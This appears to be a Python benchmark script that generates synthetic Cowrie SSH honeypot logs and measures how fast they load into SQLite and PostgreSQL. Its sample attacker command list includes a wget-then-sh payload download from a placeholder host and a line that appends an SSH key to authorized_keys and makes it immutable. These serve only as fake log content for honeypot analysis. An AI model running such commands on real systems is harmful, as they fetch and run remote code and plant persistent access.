"""Ingestion benchmark: >= 1,000,000 Cowrie events into SQLite and PostgreSQL, plain/.gz/.bz2.

    .venv/bin/python bench/bench_ingest.py [--events 1000000] [--pg postgresql://postgres@127.0.0.1/postgres]
        [--backends sqlite,postgresql] [--formats plain,gz,bz2] [--data DIR (keep/reuse the generated logs)]

Each ingest runs in a child process on a fresh database, so the peak RSS and the client CPU seconds
reported (``os.wait4``) are the ingest's alone; for PostgreSQL the CPU seconds of the server backend
that did the writing are reported too (read from ``/proc``, so only when the server runs on this
machine). The machine may be shared: the load average is printed with every row.
Uses ``cowrieprocessor.synthetic.generate`` when it exists, else the small generator below
(scanner / brute-force / interactive session mix, realistic IP reuse).
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

SCRIPTS = [
    ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "w"],
    ["cd /tmp || cd /var/run", "wget http://{ip}/bins.sh", "chmod 777 bins.sh", "sh bins.sh", "rm -rf bins.sh"],
    ["echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 x' >> ~/.ssh/authorized_keys", "chattr +i ~/.ssh"],
]
PASSWORDS = ["123456", "admin", "root", "password", "1qaz2wsx", "ubnt", "raspberry", "P@ssw0rd"]


def _fallback_generate(path: Path, events: int, seed: int = 7) -> int:
    rng = random.Random(seed)
    ips = [
        f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(20000)
    ]
    t = 1_740_441_600.0
    written = 0
    with path.open("w") as out:
        while written < events:
            sid = uuid.UUID(int=rng.getrandbits(128)).hex[:12]
            ip = ips[min(int(rng.paretovariate(1.2)) - 1, len(ips) - 1)] if rng.random() < 0.5 else rng.choice(ips)
            base = {"session": sid, "protocol": "ssh", "src_ip": ip, "src_port": rng.randint(1024, 65535),
                    "dst_ip": "10.0.0.5", "dst_port": 22}  # fmt: skip
            kind = rng.random()
            evs: list[dict[str, object]] = [{"eventid": "cowrie.session.connect"},
                   {"eventid": "cowrie.client.version", "version": "SSH-2.0-Go"},
                   {"eventid": "cowrie.client.kex", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
                    "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}]  # fmt: skip
            if kind > 0.55:
                for _ in range(rng.randint(1, 12)):
                    evs.append({"eventid": "cowrie.login.failed", "username": "root",
                                "password": rng.choice(PASSWORDS)})  # fmt: skip
            if kind > 0.8:
                evs.append({"eventid": "cowrie.login.success", "username": "root", "password": "admin"})
                for line in rng.choice(SCRIPTS):
                    evs.append({"eventid": "cowrie.command.input", "input": line.format(ip=rng.choice(ips))})
                if rng.random() < 0.3:
                    evs.append({"eventid": "cowrie.session.file_download", "url": f"http://{rng.choice(ips)}/x",
                                "outfile": "dl/" + "ab" * 32, "shasum": "ab" * 32, "duplicate": False})  # fmt: skip
            evs.append({"eventid": "cowrie.session.closed", "duration_ms": rng.randint(100, 60000)})
            for ev in evs:
                t += rng.random() * 0.05
                stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int(t % 1 * 1e6):06d}Z"
                record = {**base, **ev, "message": "m", "sensor": "bench-sensor", "uuid": "u", "timestamp": stamp}
                out.write(json.dumps(record, separators=(",", ":")) + "\n")
            written += len(evs)
    return written


def generate(path: Path, events: int) -> int:
    try:
        from cowrieprocessor.synthetic import generate as synth
    except ImportError:
        return _fallback_generate(path, events)
    result = synth(path, events=events, seed=3, days=7, rotate_daily=False)  # the project's realistic generator
    return int(result.events)


def _fresh_db(backend: str, pg_url: str, workdir: Path, tag: str) -> str:
    """A new database, with the previous run's writes settled first (OS and server), so no run pays for another."""
    os.sync()
    if backend == "sqlite":
        return f"sqlite:///{workdir / f'{tag}.sqlite'}"
    name = f"bench_ingest_{tag}"
    admin = create_engine(pg_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        conn.execute(text(f'CREATE DATABASE "{name}"'))
        conn.execute(text("CHECKPOINT"))  # the last run's dirty buffers, written now rather than during this one
    admin.dispose()
    return make_url(pg_url).set(database=name).render_as_string(hide_password=False)


def _backend_cpu(pid: int) -> float | None:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _drop_db(admin_url: str, url: str) -> None:
    admin = create_engine(admin_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'DROP DATABASE IF EXISTS "{make_url(url).database}" WITH (FORCE)'))
    admin.dispose()


def _child(url: str, path: str) -> None:
    from cowrieprocessor.ingestion import ingest
    from cowrieprocessor.ingestion import store as store_module
    from cowrieprocessor.storage import schema
    from cowrieprocessor.storage.engine import make_engine

    engine = make_engine(url)
    schema.upgrade(engine)
    server_cpu: list[float] = []
    close = store_module.Store.close

    def close_and_measure(self: store_module.Store) -> None:  # the backend's CPU, read before it exits
        if engine.dialect.name == "postgresql":
            cpu = _backend_cpu(self.conn.info.backend_pid)
            if cpu is not None:
                server_cpu.append(cpu)
        close(self)

    store_module.Store.close = close_and_measure  # type: ignore[method-assign]
    stats = ingest(engine, [path])
    print(json.dumps({**stats.as_dict(), "server_cpu": sum(server_cpu) if server_cpu else None}))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--pg", default="postgresql+psycopg://postgres@127.0.0.1:5432/postgres")
    parser.add_argument("--backends", default="sqlite,postgresql")
    parser.add_argument("--formats", default="plain,gz,bz2")
    parser.add_argument("--data", type=Path, help="directory for the generated logs, reused when present")
    parser.add_argument("--child", nargs=2, metavar=("URL", "PATH"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        _child(*args.child)
        return
    workdir = Path(tempfile.mkdtemp(prefix="bench_ingest_"))
    data = args.data or workdir
    data.mkdir(parents=True, exist_ok=True)
    try:
        plain = data / f"cowrie-{args.events}.json"
        if not plain.exists():
            t0 = time.monotonic()
            n = generate(plain.with_suffix(".tmp"), args.events)
            plain.with_suffix(".tmp").rename(plain)
            print(f"generated {n:,} events, {plain.stat().st_size / 1e6:.1f} MB in {time.monotonic() - t0:.1f}s")
        files = {"plain": plain}
        if "gz" in args.formats:
            files["gz"] = plain.with_name(plain.name + ".gz")
            if not files["gz"].exists():
                with plain.open("rb") as src, gzip.open(files["gz"], "wb", compresslevel=6) as dst:
                    shutil.copyfileobj(src, dst, 1 << 20)
        if "bz2" in args.formats:
            files["bz2"] = plain.with_name(plain.name + ".bz2")
            if not files["bz2"].exists():
                with plain.open("rb") as src, bz2.open(files["bz2"], "wb") as dst:
                    shutil.copyfileobj(src, dst, 1 << 20)
        sizes = ", ".join(f"{k} {v.stat().st_size / 1e6:.1f} MB" for k, v in files.items())
        print(f"input: {sizes} (MB/s below is of the file as stored)")
        head = f"{'backend':<11} {'format':<6} {'events':>10} {'seconds':>8} {'events/s':>10} {'MB/s':>7}"
        print(
            head + f" {'peak RSS MB':>12} {'client CPU s':>12} {'server CPU s':>12}"
            f"  (load before: {os.getloadavg()[0]:.1f})"
        )
        for backend in args.backends.split(","):
            for fmt in args.formats.split(","):
                url = _fresh_db(backend, args.pg, workdir, f"{backend}_{fmt}")
                proc = subprocess.Popen(
                    [sys.executable, __file__, "--child", url, str(files[fmt])], stdout=subprocess.PIPE, text=True
                )
                assert proc.stdout is not None
                out = proc.stdout.read()
                _, status, usage = os.wait4(proc.pid, 0)
                if status != 0:
                    raise SystemExit(f"ingest failed ({backend}, {fmt}): status {status}")
                stats = json.loads(out.strip().splitlines()[-1])
                secs = stats["seconds"]
                mbs = files[fmt].stat().st_size / 1e6 / secs
                server = f"{stats['server_cpu']:>12.1f}" if stats["server_cpu"] is not None else f"{'-':>12}"
                print(
                    f"{backend:<11} {fmt:<6} {stats['events_new']:>10,} {secs:>8.1f} "
                    f"{stats['events_read'] / secs:>10,.0f} {mbs:>7.1f} {usage.ru_maxrss / 1024:>12.0f} "
                    f"{usage.ru_utime + usage.ru_stime:>12.1f} {server}  (load {os.getloadavg()[0]:.1f})",
                    flush=True,
                )
                if backend == "postgresql":
                    _drop_db(args.pg, url)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
